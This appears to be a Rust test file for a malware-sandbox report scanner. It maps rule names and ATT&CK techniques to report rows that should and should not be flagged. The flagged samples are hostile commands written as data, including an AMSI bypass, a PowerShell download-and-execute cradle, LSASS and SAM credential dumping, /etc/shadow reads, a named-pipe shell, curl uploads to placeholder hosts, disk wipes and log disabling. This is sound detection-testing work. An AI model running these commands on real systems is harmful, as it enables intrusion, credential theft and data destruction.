//! An analyst's checklist, line by line: what is marked by which rule and technique, and what nearly looks like it and is not.

use super::*;
use std::sync::LazyLock;

static RULES: LazyLock<Rules> = LazyLock::new(Rules::shipped);

/// The rules that mark the rows of a report, by their names, without noise.
fn found(json: &str) -> Vec<(String, Vec<String>)> {
    let report = report(json);
    let marks = RULES.judge(&report, &Cancel::default()).unwrap();
    let rows: Vec<_> = marks.notable().map(|(section, row, _)| (section, row)).collect();
    let rules = rows.iter().flat_map(|(section, row)| RULES.of_row(&report, &marks, *section, *row));
    let rules = rules.filter(|rule| rule.severity != Severity::Noise);
    rules.map(|rule| (rule.id.clone(), rule.attack.clone())).collect()
}

/// A report with one row of an attribute; a registry row is written `key = value`.
fn one(attribute: &str, row: &str) -> String {
    let row = row.replace('\\', r"\\").replace('"', "\\\"");
    let record = match (attribute, row.split_once(" = ")) {
        ("registry_keys_set", Some((key, value))) => format!(r#"{{"key":"{key}","value":"{value}"}}"#),
        ("processes_tree", Some((parent, name))) => {
            format!(r#"{{"name":"{parent}","children":[{{"name":"{name}"}}]}}"#)
        }
        ("processes_tree", None) => format!(r#"{{"name":"{row}"}}"#),
        ("smtp_conversations", _) => format!(r#"{{"smtp_to":["{row}"]}}"#),
        ("dns_lookups", _) => format!(r#"{{"hostname":"{row}"}}"#),
        ("http_conversations", _) => format!(r#"{{"url":"{row}","request_method":"GET"}}"#),
        ("ip_traffic", _) => {
            let (address, port) = row.rsplit_once(':').unwrap();
            let address = format!(r#"{{"destination_ip":"{address}","destination_port":{port}"#);
            format!(r#"{address},"transport_layer_protocol":"TCP"}}"#)
        }
        _ => format!(r#""{row}""#),
    };
    format!(r#"{{"{attribute}":[{record}]}}"#)
}

const COMMAND: &str = "command_executions";
const SET: &str = "registry_keys_set";
const TREE: &str = "processes_tree";
const WRITTEN: &str = "files_written";
const WMI: &str = "system_property_lookups";
const ADDRESS: &str = "ip_traffic";
const HOST: &str = "dns_lookups";
const URL: &str = "http_conversations";
const TAG: &str = "tags";
const PERMISSION: &str = "permissions_requested";
const INJECTED: &str = "processes_injected";
const FILE: &str = "files_opened";
const CHANGED: &str = "files_attribute_changed";
const HIDDEN: &str = "windows_hidden";
const GONE: &str = "files_deleted";
const OPENED_KEY: &str = "registry_keys_opened";
const DELETED_KEY: &str = "registry_keys_deleted";
const MAIL: &str = "smtp_conversations";
const MEMORY_URL: &str = "memory_pattern_urls";
const MEMORY_NAME: &str = "memory_pattern_domains";
const DECODED: &str = "text_decoded";

/// Rule, technique, attribute, a row that it marks, and one that no such rule marks.
const CHECKLIST: &[(&str, &str, &str, &str, &str)] = &[
    (
        "amsi",
        "T1562.001",
        COMMAND,
        "powershell -c \"[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)\"",
        "powershell -c Get-Date",
    ),
    (
        "amsi",
        "T1562.001",
        SET,
        r"HKCU\Software\Microsoft\Windows Script\Settings\AmsiEnable = 0",
        r"HKCU\Software\Microsoft\Windows Script\Settings\AmsiEnable = 1",
    ),
    ("etw", "T1562.006", COMMAND, "logman stop EventLog-Application -ets", "logman query -ets"),
    (
        "etw",
        "T1562.006",
        SET,
        r"HKLM\SOFTWARE\Microsoft\.NETFramework\ETWEnabled = 0x00000000",
        r"HKLM\SOFTWARE\Microsoft\.NETFramework\ETWEnabled = 0x00000001",
    ),
    ("audit-off", "T1562.002", COMMAND, "auditpol /set /category:* /success:disable", "auditpol /get /category:*"),
    ("audit-off", "T1562.002", COMMAND, "wevtutil sl Security /e:false", "wevtutil qe Security /c:1"),
    (
        "wdigest",
        "T1112",
        SET,
        r"<HKLM>\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest\UseLogonCredential = 1",
        r"HKLM\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest\UseLogonCredential = 0",
    ),
    (
        "wdigest",
        "T1112",
        COMMAND,
        r"reg add HKLM\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f",
        r"reg query HKLM\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest /v UseLogonCredential",
    ),
    (
        "rdp-on",
        "T1021.001",
        SET,
        r"HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server\fDenyTSConnections = 0",
        r"HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server\fDenyTSConnections = 1",
    ),
    (
        "rdp-on",
        "T1021.001",
        COMMAND,
        r#"reg add "HKLM\System\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f"#,
        r#"reg add "HKLM\System\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 1 /f"#,
    ),
    ("safe-boot", "T1562.009", COMMAND, "bcdedit /set {default} safeboot network", "bcdedit /enum"),
    (
        "safe-boot",
        "T1562.009",
        SET,
        r"HKLM\SYSTEM\CurrentControlSet\Control\SafeBoot\Network\x = Service",
        r"HKLM\SYSTEM\CurrentControlSet\Control\SafeBoot\Option\OptionValue = 1",
    ),
    ("uac-program", "T1548.002", COMMAND, r"C:\Windows\System32\fodhelper.exe", r"C:\tools\nofodhelper.exe"),
    ("uac-child", "T1548.002", TREE, r"C:\Windows\System32\computerdefaults.exe = cmd.exe", "explorer.exe = cmd.exe"),
    (
        "uac-mock-folder",
        "T1548.002",
        COMMAND,
        r"C:\Windows \System32\ComputerDefaults.exe",
        r"C:\Windows\System32\calc.exe",
    ),
    (
        "uac-bypass",
        "T1548.002",
        SET,
        r"HKCU\Software\Classes\ms-settings\shell\open\command\DelegateExecute = ",
        r"HKCU\Software\Classes\ms-settings\CurVer = x",
    ),
    ("cipher-wipe", "T1485", COMMAND, r"cipher /w:C:\", r"cipher /e C:\a"),
    ("usn-journal", "T1070", COMMAND, "fsutil usn deletejournal /D C:", "fsutil usn queryjournal C:"),
    ("grants", "T1222.001", COMMAND, "icacls . /grant Everyone:F /T /C /Q", r"icacls C:\a"),
    (
        "browser-passwords",
        "T1555.003",
        "files_opened",
        r"C:\Users\a\AppData\Local\Google\Chrome\User Data\Default\Login Data",
        r"C:\Users\a\AppData\Local\Google\Chrome\User Data\Default\History",
    ),
    (
        "lsass",
        "T1003.001",
        COMMAND,
        r"rundll32 C:\windows\system32\comsvcs.dll, #24 624 C:\x.bin full",
        r"rundll32 C:\windows\system32\shell32.dll,#44",
    ),
    (
        "lsass",
        "T1003.001",
        WRITTEN,
        r"C:\Users\a\AppData\Local\Temp\lsass.DMP",
        r"C:\Users\a\AppData\Local\Temp\app.dmp",
    ),
    ("discovery", "T1033", COMMAND, "whoami /all", "echo whoami.txt"),
    ("discovery", "T1033", COMMAND, "cmd /c systeminfo & net user", "notes about systeminformation"),
    ("look-alike", "T1036.005", TREE, r"C:\Users\a\svhost.exe -k", r"C:\Windows\System32\svchost.exe -k"),
    ("look-alike", "T1036.005", COMMAND, r#""C:\ProgramData\svch0st.exe" /x"#, r"C:\Program Files\x\service.exe"),
    ("look-alike", "T1036.005", TREE, "scvhost.exe", "taskhostw.exe"),
    (
        "self-delete",
        "T1070.004",
        COMMAND,
        r"cmd /c ping 127.0.0.1 -n 3 & del C:\Users\a\x.exe",
        r"cmd /c ping 127.0.0.1 -n 3",
    ),
    ("self-deleted", "T1070.004", "files_deleted", "<PATH_SAMPLE.EXE>", r"C:\Users\a\x.tmp"),
    ("self-delete-tag", "T1070.004", TAG, "SELF_DELETE", "DELETES_TEMP"),
    ("mail-port", "T1071.003", ADDRESS, "203.0.113.5:587", "203.0.113.5:2587"),
    ("mail-port", "T1071.003", ADDRESS, "2001:db8::1:25", "2001:db8::25:443"),
    ("file-port", "T1071.002", ADDRESS, "203.0.113.5:21", "203.0.113.5:2121"),
    ("mail-host", "T1071.003", HOST, "smtp.example.com", "smtpless.example"),
    ("mail-host", "T1071.003", HOST, "ftp.example.com", "mail.google.com"),
    ("shared-host", "T1102", HOST, "t.me", "internet.me"),
    ("shared-host", "T1102", HOST, "file.io", "profile.io"),
    ("paste-site", "T1567", URL, "https://paste.ee/r/x", "https://example.com/paste"),
    ("dynamic-name", "T1572", HOST, "x.localhost.run", "localhost.example"),
    ("remote-tool", "T1219", WRITTEN, r"C:\Users\a\AnyDesk.exe", r"C:\Users\a\manydesk.exe"),
    ("remote-host", "T1219", HOST, "relay-1.net.anydesk.com", "anydesk.com.example"),
    ("cloud-copy", "T1567.002", COMMAND, r"rclone.exe copy C:\data mega:x", r"C:\myrclone.exe"),
    ("tunnel", "T1572", COMMAND, "ngrok tcp 3389", "ngroks tcp"),
    ("ssh-tunnel", "T1572", COMMAND, "plink.exe -R 3389:127.0.0.1:3389 a@203.0.113.5", "ssh a@example.com"),
    ("bare-address", "T1071.001", URL, "http://203.0.113.5/a.exe", "http://192.168.1.1/a"),
    ("bare-address", "T1071.001", URL, "http://203.0.113.5:81/a", "http://1.2.3.4.example.com/"),
    ("odd-port", "T1571", URL, "http://evil.example:4782/gate", "http://example.com:8080/"),
    ("ransom-note", "T1486", WRITTEN, r"%HOMEPATH%\desktop\@please_read_me@.txt", r"C:\app\readme.txt"),
    ("ransom-note", "T1486", WRITTEN, r"C:\Users\a\_readme.txt", r"C:\Users\a\unread messages.txt"),
    ("encrypted-names", "T1486", WRITTEN, r"%HOMEPATH%\desktop\a.doc.wncryt", r"C:\Users\a\a.doc"),
    ("windows-privileges", "T1134", PERMISSION, "SE_LOAD_DRIVER_PRIVILEGE", "SE_CHANGE_NOTIFY_PRIVILEGE"),
    ("windows-debug", "T1134", PERMISSION, "SeDebugPrivilege", "SeUndockPrivilege"),
    ("android-sms", "T1582", PERMISSION, "android.permission.SEND_SMS", "android.permission.INTERNET"),
    ("android-over", "T1417.002", PERMISSION, "android.permission.SYSTEM_ALERT_WINDOW", "android.permission.VIBRATE"),
    ("android-more", "T1418", PERMISSION, "android.permission.QUERY_ALL_PACKAGES", "android.permission.WAKE_LOCK"),
    (
        "wmi-defender",
        "T1562.001",
        WMI,
        r"IWbemServices::ExecMethod - root\Microsoft\Windows\Defender : MSFT_MpPreference::Add",
        r"IWbemServices::ExecMethod - root\Microsoft\Windows\Defender : MSFT_MpPreference::Get",
    ),
    (
        "wmi-process",
        "T1047",
        WMI,
        r"IWbemServices::ExecMethod - root\cimv2 : Win32_Process::Create",
        r"IWbemServices::ExecQuery - root\cimv2 : SELECT * FROM Win32_Process",
    ),
    (
        "wmi-scanner",
        "T1518.001",
        WMI,
        r"IWbemServices::ExecQuery - root\SecurityCenter2 : SELECT * FROM AntiVirusProduct",
        "ro.product.model",
    ),
    ("restart", "T1529", COMMAND, "Shutdown -r -t 5", "shutdown /a"),
    ("temp-program", "T1105", WRITTEN, r"C:\Users\a\AppData\Local\Temp\x.exe ", r"C:\Program Files\x.exe"),
    ("backup-stopped", "T1489", COMMAND, "net stop MSSQLSERVER /y", "net start MSSQLSERVER"),
    ("hosts-tag", "T1565.001", TAG, "HOSTS_MODIFIER", "HOSTS"),
    ("debug-tag", "T1622", TAG, "DETECT_DEBUG_ENVIRONMENT", "RUNTIME_MODULES"),
    ("extension-tag", "T1176", TAG, "INSTALLS_BROWSER_EXTENSION", "REFLECTION"),
    ("password-tag", "T1056.002", TAG, "PASSWORD_DIALOG", "DIALOG"),
    ("sudo-tag", "T1548", TAG, "SUDO", "CRYPTO"),
    ("gps-tag", "T1430", TAG, "CHECKS_GPS", "CRYPTO"),
    ("telephony-tag", "T1616", TAG, "TELEPHONY", "CRYPTO"),
    ("protocol-tag", "T1071", TAG, "SMTP_COMMUNICATION", "HTTP_COMMUNICATION"),
    ("database-tag", "T1213", TAG, "MYSQL_COMMUNICATION", "CRYPTO"),
    ("dns-tag", "T1568.002", TAG, "SUSPICIOUS_DNS", "DNS"),
    ("udp-tag", "T1095", TAG, "SUSPICIOUS_UDP", "UDP"),
    ("upstream-tag", "T1048", TAG, "BIG_UPSTREAM", "UPSTREAM"),
    ("tunnel-tag", "T1572", TAG, "TUNNELING", "TUNNEL"),
    ("macro-tag", "T1059.005", TAG, "MACRO_POWERSHELL", "MACROS"),
    ("dropped-tag", "T1105", TAG, "EXECUTES_DROPPED_FILE", "DROPS_FILE"),
    (
        "run-key-installed",
        "T1547.001",
        SET,
        r#"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Vpn = "C:\Program Files\Vpn\vpn.exe" /tray"#,
        r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\x = C:\Users\a\AppData\Roaming\x.exe",
    ),
    (
        "run-key-known",
        "T1547.001",
        SET,
        r#"HKCU\Software\Microsoft\Windows\CurrentVersion\Run\OneDrive = "C:\Users\a\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /background"#,
        r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run\OneDrive = C:\Users\a\OneDrive.exe",
    ),
    (
        "run-key",
        "T1547.001",
        SET,
        r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run\OneDrive = C:\Users\a\AppData\Local\Temp\OneDrive.exe",
        r#"HKCU\Software\Microsoft\Windows\CurrentVersion\Run\OneDrive = "C:\Users\a\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /background"#,
    ),
    (
        "run-key",
        "T1547.001",
        SET,
        r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\RunOnce\x = C:\ProgramData\x.exe",
        r#"HKLM\SOFTWARE\WOW6432Node\Microsoft\Windows\CurrentVersion\RunOnce\wextract_cleanup0 = rundll32.exe C:\Windows\system32\advpack.dll,DelNodeRunDLL32 "C:\Users\a\AppData\Local\Temp\IXP000.TMP\""#,
    ),
    (
        "schtasks",
        "T1053.005",
        COMMAND,
        r"schtasks /create /tn x /tr C:\Users\a\x.exe /sc onlogon",
        r#"schtasks /create /tn Updater /tr "\"C:\Program Files\App\update.exe\" /c" /sc daily"#,
    ),
    (
        "schtasks-installed",
        "T1053.005",
        COMMAND,
        r#"schtasks /create /tn Updater /tr "\"C:\Program Files\App\update.exe\" /c" /sc daily"#,
        r"schtasks /create /tn x /tr C:\Users\a\x.exe",
    ),
    (
        "task-file",
        "T1053.005",
        WRITTEN,
        r"C:\Windows\System32\Tasks\Microsoft\Windows\WAppCrash",
        r"C:\Windows\System32\Tasks\Microsoft\Windows\Application Experience\Microsoft Compatibility Appraiser",
    ),
    (
        "task-cache",
        "T1053.005",
        SET,
        r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\Tree\Microsoft\Windows\WAppCrash\Id = {1}",
        r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\Tree\Microsoft\Windows\SoftwareProtectionPlatform\SvcRestartTask\Id = {1}",
    ),
    (
        "time-provider",
        "T1547.003",
        SET,
        r"HKLM\SYSTEM\CurrentControlSet\Services\W32Time\TimeProviders\x\DllName = c:\x.dll",
        r"HKLM\SYSTEM\CurrentControlSet\Services\W32Time\TimeProviders\NtpClient\SpecialPollTimeRemaining = x",
    ),
    (
        "print-monitor",
        "T1547.010",
        SET,
        r"HKLM\SYSTEM\CurrentControlSet\Control\Print\Monitors\x\Driver = x.dll",
        r"HKLM\SYSTEM\CurrentControlSet\Control\Print\Monitors\Local Port\Driver = localspl.dll",
    ),
    (
        "startup-folder",
        "T1547.001",
        WRITTEN,
        r"%APPDATA%\microsoft\windows\start menu\programs\startup\x.vbs",
        r"%APPDATA%\microsoft\windows\start menu\programs\startup\desktop.ini",
    ),
    ("injected", "T1055", INJECTED, r"C:\Windows\explorer.exe", r"\\?\C:\Windows\system32\wbem\WMIADAP.EXE"),
    (
        "odd-svchost",
        "T1036.005",
        TREE,
        r"a.exe = C:\Windows\System32\svchost.exe",
        r"a.exe = C:\Windows\system32\svchost.exe -k netsvcs",
    ),
    (
        "svchost-parent",
        "T1036.005",
        TREE,
        r"a.exe = C:\Windows\system32\svchost.exe -k netsvcs",
        r"services.exe = C:\Windows\system32\svchost.exe -k netsvcs",
    ),
    (
        "root-certificate",
        "T1553.004",
        SET,
        r"HKLM\SOFTWARE\Microsoft\SystemCertificates\ROOT\Certificates\AA\Blob = 5C",
        r"HKU\S-1-5-21-1\Software\Microsoft\SystemCertificates\Root\Certificates\0174E68C97DDF1E0EEEA415EA336A163D2B61AFD\Blob = 5C",
    ),
    (
        "proxy",
        "T1090",
        SET,
        r"HKCU\Software\Microsoft\Windows\CurrentVersion\Internet Settings\ProxyServer = 203.0.113.5:8080",
        r"HKCU\Software\Microsoft\Windows\CurrentVersion\Internet Settings\ProxyServer",
    ),
    (
        "event-log-off",
        "T1562.002",
        SET,
        r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\WINEVT\Channels\x\Enabled = 0",
        r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\WINEVT\Channels\x\Enabled",
    ),
    (
        "firewall-key",
        "T1562.004",
        SET,
        r"HKLM\SYSTEM\CurrentControlSet\Services\SharedAccess\Parameters\FirewallPolicy\FirewallRules\x = v2",
        r"HKLM\SYSTEM\CurrentControlSet\Services\SharedAccess\Parameters\FirewallPolicy\RestrictedServices\AppIso\FirewallRules\x = v2",
    ),
    (
        "firewall-off-key",
        "T1562.004",
        SET,
        r"HKLM\SYSTEM\CurrentControlSet\Services\SharedAccess\Parameters\FirewallPolicy\StandardProfile\EnableFirewall = 0",
        r"HKLM\SYSTEM\CurrentControlSet\Services\SharedAccess\Parameters\FirewallPolicy\StandardProfile\EnableFirewall = 1",
    ),
    (
        "service-start",
        "T1543.003",
        SET,
        r"HKLM\SYSTEM\CurrentControlSet\Services\evil\Start = 2",
        r"HKLM\SYSTEM\CurrentControlSet\Services\BITS\Start = 2",
    ),
    ("driver", "T1014", WRITTEN, r"C:\Users\a\AppData\Roaming\WR64.sys", r"C:\Windows\System32\drivers\vpn.sys"),
    ("driver-installed", "T1014", WRITTEN, r"C:\Windows\System32\drivers\vpn.sys", r"C:\pagefile.sys"),
    ("system-program", "T1036.005", WRITTEN, r"C:\Windows\System32\x.exe", r"C:\Windows\System32\MRT.exe"),
    (
        "windows-program",
        "T1036.005",
        WRITTEN,
        r"C:\Windows\xdwdSystem32\Defender.exe",
        r"C:\Windows\Installer\{1}\icon.exe",
    ),
    ("windows-program", "T1036.005", TREE, r"C:\Windows\Web\MalwareDef.exe ", r"C:\Windows\explorer.exe"),
    (
        "powershell-download",
        "T1105",
        COMMAND,
        r#"powershell -c "IEX (New-Object Net.WebClient).DownloadString('http://x.example')""#,
        "powershell Invoke-WebRequest https://x.example/a -OutFile a.zip",
    ),
    (
        "powershell-fetch",
        "T1105",
        COMMAND,
        "powershell Invoke-WebRequest https://x.example/a -OutFile a.zip",
        "powershell Get-Date",
    ),
    (
        "powershell-decoded",
        "T1620",
        COMMAND,
        "powershell [Reflection.Assembly]::Load([Convert]::FromBase64String($x))",
        "powershell Get-ChildItem",
    ),
    (
        "amsi",
        "T1562.001",
        COMMAND,
        r#"reg add "HKCU\Software\Microsoft\Windows Script\Settings" /v AmsiEnable /t REG_DWORD /d 0 /f"#,
        r#"reg add "HKCU\Software\Microsoft\Windows Script\Settings" /v AmsiEnable /t REG_DWORD /d 1 /f"#,
    ),
    (
        "amsi-provider",
        "T1562.001",
        COMMAND,
        r"reg delete HKLM\SOFTWARE\Microsoft\AMSI\Providers\{2781761E-28E0-4109-99FE-B9D127C57AFE} /f",
        r"reg query HKLM\SOFTWARE\Microsoft\AMSI\Providers",
    ),
    (
        "amsi-provider",
        "T1562.001",
        DELETED_KEY,
        r"HKLM\SOFTWARE\Microsoft\AMSI\Providers\{2781761E-28E0-4109-99FE-B9D127C57AFE}",
        r"HKLM\SOFTWARE\Microsoft\Windows\x",
    ),
    (
        "etw",
        "T1562.006",
        SET,
        r"HKLM\SYSTEM\CurrentControlSet\Control\WMI\Autologger\EventLog-Application\Start = 0",
        r"HKLM\SYSTEM\CurrentControlSet\Control\WMI\Autologger\EventLog-Application\Start = 1",
    ),
    ("audit-off", "T1562.002", COMMAND, "fltmc unload SysmonDrv", "fltmc instances"),
    (
        "audit-off",
        "T1562.002",
        SET,
        r"HKLM\SYSTEM\CurrentControlSet\Services\EventLog\Start = 4",
        r"HKLM\SYSTEM\CurrentControlSet\Services\EventLog\Start = 2",
    ),
    (
        "audit-off",
        "T1562.002",
        SET,
        r"HKLM\SOFTWARE\Policies\Microsoft\Windows\PowerShell\ScriptBlockLogging\EnableScriptBlockLogging = 0",
        r"HKLM\SOFTWARE\Policies\Microsoft\Windows\PowerShell\ScriptBlockLogging\EnableScriptBlockLogging = 1",
    ),
    (
        "rdp-on",
        "T1021.001",
        COMMAND,
        r#"netsh advfirewall firewall set rule group="remote desktop" new enable=Yes"#,
        "netsh advfirewall show allprofiles",
    ),
    (
        "tamper-off",
        "T1562.001",
        SET,
        r"HKLM\SOFTWARE\Microsoft\Windows Defender\Features\TamperProtection = 0",
        r"HKLM\SOFTWARE\Microsoft\Windows Defender\Features\TamperProtection = 5",
    ),
    (
        "smart-screen-off",
        "T1562.001",
        SET,
        r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Explorer\SmartScreenEnabled = Off",
        r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Explorer\SmartScreenEnabled = Warn",
    ),
    (
        "uac-com",
        "T1548.002",
        TREE,
        r"C:\Windows\system32\DllHost.exe /Processid:{3E5FC7F9-9A51-4367-9063-A120244FBEC7}",
        r"C:\Windows\system32\DllHost.exe /Processid:{45BA127D-10A8-46EA-8AB7-56EA9078943C}",
    ),
    ("uac-program", "T1548.002", COMMAND, "ComputerDefaults", "sdclt.exe /CONFIGNOTIFICATION"),
    ("uac-child", "T1548.002", TREE, "eventvwr.exe = powershell.exe", "eventvwr.exe = mmc.exe"),
    ("wipe", "T1485", COMMAND, r"sdelete64 -p 3 C:\a", "rm -rf /tmp/x"),
    ("wipe", "T1561", COMMAND, "dd if=/dev/zero of=/dev/sda", "dd if=/dev/zero of=/tmp/x"),
    ("cipher-wipe", "T1485", COMMAND, "cmd /c cipher.exe /w:D:", "defrag C: /U"),
    ("usn-journal", "T1070", COMMAND, "fsutil.exe usn deletejournal /D C:", "defrag.exe C: -f"),
    ("grants", "T1222.001", COMMAND, r#"icacls "C:\*" /grant *S-1-1-0:F"#, r"icacls C:\a /save b"),
    ("attrib-hide", "T1564.001", COMMAND, "attrib +h .", "attrib -r a.txt"),
    (
        "wallpaper",
        "T1491.001",
        SET,
        r"HKCU\Control Panel\Desktop\Wallpaper = C:\Users\a\note.bmp",
        r"HKCU\Control Panel\Desktop\WheelScrollLines = 3",
    ),
    (
        "browser-passwords",
        "T1555.003",
        FILE,
        r"C:\Users\a\AppData\Local\Microsoft\Edge\User Data\Default\Web Data",
        r"C:\Users\a\AppData\Roaming\Code\Network\Cookies",
    ),
    (
        "browser-passwords",
        "T1555.003",
        FILE,
        r"%APPDATA%\opera software\opera stable\login data",
        r"C:\Users\a\AppData\Local\App\EBWebView\Default\Login Data",
    ),
    (
        "browser-passwords",
        "T1555.003",
        SET,
        r"HKCU\Software\Microsoft\RestartManager\Session0000\RegFiles0000 = %APPDATA%\Mozilla\Firefox\Profiles\x\key4.db",
        r"HKCU\Software\Microsoft\RestartManager\Session0000\RegFiles0000 = C:\a.docx",
    ),
    (
        "messenger-sessions",
        "T1539",
        FILE,
        r"%APPDATA%\discord\Local Storage\leveldb\000003.log",
        r"%APPDATA%\discord\settings.json",
    ),
    (
        "stored-sessions",
        "T1552.002",
        OPENED_KEY,
        r"HKCU\Software\SimonTatham\PuTTY\Sessions",
        r"HKCU\Software\SimonTatham\PuTTY\SshHostKeys",
    ),
    ("mail-passwords", "T1552.001", FILE, r"%APPDATA%\FileZilla\recentservers.xml", r"%APPDATA%\FileZilla\layout.xml"),
    (
        "credential-manager",
        "T1555.004",
        FILE,
        r"%LOCALAPPDATA%\Microsoft\Vault\4bf4c442\policy.vpol",
        r"%LOCALAPPDATA%\Microsoft\Vault\UserProfileRoaming\Latest.dat",
    ),
    ("wifi-passwords", "T1555", COMMAND, r#"netsh wlan show profile name="x" key=clear"#, "netsh wlan show drivers"),
    ("sam-hive", "T1003.002", COMMAND, r#"ntdsutil "ac i ntds" "ifm" "create full c:\x" q q"#, "ntdsutil help"),
    (
        "sam-hive",
        "T1003.002",
        COMMAND,
        r"copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\System32\config\SYSTEM c:\x",
        "vssadmin list shadows",
    ),
    ("lsass", "T1003.001", COMMAND, "procdump64.exe -ma lsass.exe out.dmp", "procdump64.exe -ma app.exe out.dmp"),
    ("attack-tool", "T1588.002", COMMAND, r"C:\Users\a\lazagne.exe all", r"C:\Users\a\lasagne.exe"),
    (
        "account",
        "T1136.001",
        COMMAND,
        r#"net localgroup "Remote Desktop Users" a /add"#,
        "net localgroup administrators",
    ),
    ("discovery", "T1016", COMMAND, "ipconfig /all", r"C:\ipconfig\app.exe"),
    ("discovery", "T1082", COMMAND, "systeminfo", r"C:\tools\mysysteminfo"),
    ("discovery", "T1033", COMMAND, "sh -c uname -a; uname", "cmd /c echo net"),
    ("unix-passwords", "T1003.008", COMMAND, "cat /etc/shadow", "cat /etc/shadowsocks.json"),
    ("unix-passwords", "T1555.001", COMMAND, "security dump-keychain -d login.keychain", "security list-keychains"),
    ("unix-defence", "T1562.004", COMMAND, "iptables -F", "iptables -L"),
    ("unix-defence", "T1070.003", COMMAND, "sh -c unset HISTFILE", "history"),
    ("unix-executable", "T1222.002", COMMAND, "chmod 777 /tmp/.x", "chmod 644 /tmp/x"),
    ("network-shell", "T1059.004", COMMAND, "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f | sh -i", "mkdir /tmp/f"),
    ("remote-exec", "T1021.006", COMMAND, "wmic /node:10.0.0.5 process call create x.exe", "wmic os get caption"),
    ("net-use", "T1021.002", COMMAND, r"net use \\10.0.0.5\c$ /user:a b", "net user"),
    (
        "port-proxy",
        "T1090.001",
        COMMAND,
        "netsh interface portproxy add v4tov4 listenport=80 connectaddress=203.0.113.5",
        "netsh interface show interface",
    ),
    (
        "dotnet-host",
        "T1055.012",
        TREE,
        r"C:\Windows\Microsoft.NET\Framework\v4.0.30319\AppLaunch.exe",
        r"C:\Windows\Microsoft.NET\Framework\v4.0.30319\mscorsvw.exe",
    ),
    ("look-alike", "T1036.005", TREE, r#""C:\ProgramData\rundl123.exe""#, r"C:\Windows\System32\rundll32.exe x"),
    ("look-alike", "T1036.005", COMMAND, "exp1orer.exe", "service ssh restart"),
    ("look-alike", "T1036.005", WRITTEN, r"C:\Users\a\scvhost.exe", r"C:\Users\a\host.exe"),
    (
        "user-script",
        "T1059",
        COMMAND,
        r"cmd.exe /c %APPDATA%\NET-Library-S44G\netrun.bat",
        r"cmd.exe /c C:\app\run.bat",
    ),
    ("user-program", "T1204.002", TREE, r"a.exe = %TEMP%\IXP000.TMP\y.exe", r"a.exe = C:\Program Files\x\x.exe"),
    (
        "self-delete",
        "T1070.004",
        COMMAND,
        "powershell Remove-Item $MyInvocation.MyCommand.Path",
        r"powershell Remove-Item C:\a.txt",
    ),
    ("self-deleted", "T1070.004", GONE, r"%SAMPLEPATH%\file.exe", r"%SAMPLEPATH%\file.log"),
    (
        "self-copy-command",
        "T1570",
        COMMAND,
        r#"cmd /c copy "%SAMPLEPATH%" C:\ProgramData\x.exe"#,
        "cmd /c copy a.txt b.txt",
    ),
    (
        "loot-file",
        "T1074.001",
        WRITTEN,
        r"C:\Users\a\AppData\Local\Temp\Chromium_cookies_DESKTOP.json",
        r"C:\Program Files\app\screenshot.png",
    ),
    (
        "loot-file",
        "T1074.001",
        WRITTEN,
        r"C:\Users\a\AppData\Local\Temp\x\passwords.txt",
        r"C:\Users\a\AppData\Local\Temp\word.txt",
    ),
    ("mail-port", "T1071.003", ADDRESS, "203.0.113.5:993", "203.0.113.5:9930"),
    ("mail-sent", "T1048.003", MAIL, "d@drop.example", ""),
    ("mail-url", "T1048.003", MEMORY_URL, "smtp://mail.example:587", "ftp://mirror.example/pub"),
    ("mail-memory", "T1071.002", MEMORY_NAME, "ftp.example.com", "example.com"),
    ("bare-memory", "T1071.001", MEMORY_URL, "http://203.0.113.5/a", "http://192.168.1.1/"),
    (
        "decoded-config",
        "T1071",
        DECODED,
        r#"{"C2 url": "203.0.113.5:19071", "Bot Id": "x"}"#,
        r#"{"url": "https://example.com"}"#,
    ),
    ("shared-host", "T1102", HOST, "api.dropboxapi.com", "dropboxapi.example"),
    ("paste-site", "T1567", URL, "https://steamcommunity.com/profiles/1", "https://example.com/steamcommunity"),
    ("dynamic-name", "T1572", HOST, "x.oast.fun", "toast.example"),
    ("address-lookup", "T1016.001", URL, "http://ip.anysrc.net/plain", "http://example.com/ip"),
    ("remote-setup", "T1219", WRITTEN, r"C:\Users\a\Downloads\AteraAgent_setup.msi", r"C:\Users\a\Downloads\setup.msi"),
    ("upload-command", "T1048", COMMAND, r"curl -T C:\a.zip https://x.example/", "curl -o a https://x.example/"),
    ("upload-command", "T1048", COMMAND, "curl.exe -F file=@a.zip https://x.example/", "curl -s https://x.example/"),
    ("ransom-note", "T1486", WRITTEN, r"C:\Users\a\akira_readme.txt", r"C:\Users\a\zlib-readme.txt"),
    ("ransom-note", "T1486", WRITTEN, r"C:\Users\a\Restore-My-Files.txt", r"C:\Users\a\restore.txt"),
    ("ransom-note", "T1486", WRITTEN, r"C:\Users\a\HOW_TO_BACK_FILES.html", r"C:\Users\a\howto.html"),
    ("ransom-window", "T1486", WRITTEN, r"C:\Users\a\Desktop\info.hta", r"C:\Users\a\app.hta"),
    ("machine-tag", "T1082", TAG, "CHECKS_BIOS", "CHECKS_DISK_SPACE"),
